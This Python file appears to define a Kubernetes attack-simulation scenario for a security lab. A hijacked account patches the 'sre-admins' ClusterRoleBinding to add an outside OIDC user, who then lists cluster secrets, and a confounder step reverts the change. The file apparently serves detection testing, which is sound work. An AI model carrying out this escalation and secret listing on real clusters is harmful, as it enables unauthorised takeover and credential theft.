"""A subject is added to the binding that makes administrators: the patch names no role."""

from lab.client import JSON_PATCH, Identity
from lab.manifests import user
from lab.story import Scenario, Stage

_PATH = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/sre-admins"


def _play(stage: Stage) -> None:
    thief = stage.hijack("carol")
    guest = user("oidc:mallory@example.com")
    with stage.step("add a subject", thief, "privilege-escalation", ("E01", "E03")):
        add = [{"op": "add", "path": "/subjects/-", "value": guest}]
        stage.must(thief.patch(_PATH, add, JSON_PATCH))
    token = stage.lab.plane.issuer.token("mallory@example.com", ())
    guest_client = stage.stranger(
        Identity("oidc:mallory@example.com", token), "kubectl/v1.36.1 (linux/amd64) kubernetes/9d1c0aa"
    )
    with stage.step("use it", guest_client, "credential-access", ("N13", "F04", "N12")):
        stage.must(guest_client.get("/api/v1/secrets?limit=500"))
    with stage.step("the administrator removes the subject", "kubernetes-admin", kind="confounder"):
        stage.admin().patch(_PATH, [{"op": "remove", "path": "/subjects/1"}], JSON_PATCH)


SCENARIO = Scenario(
    "patch-binding",
    "A subject joins the administrators",
    "attack",
    "make an outsider an administrator",
    ("T1098.006",),
    _play,
)
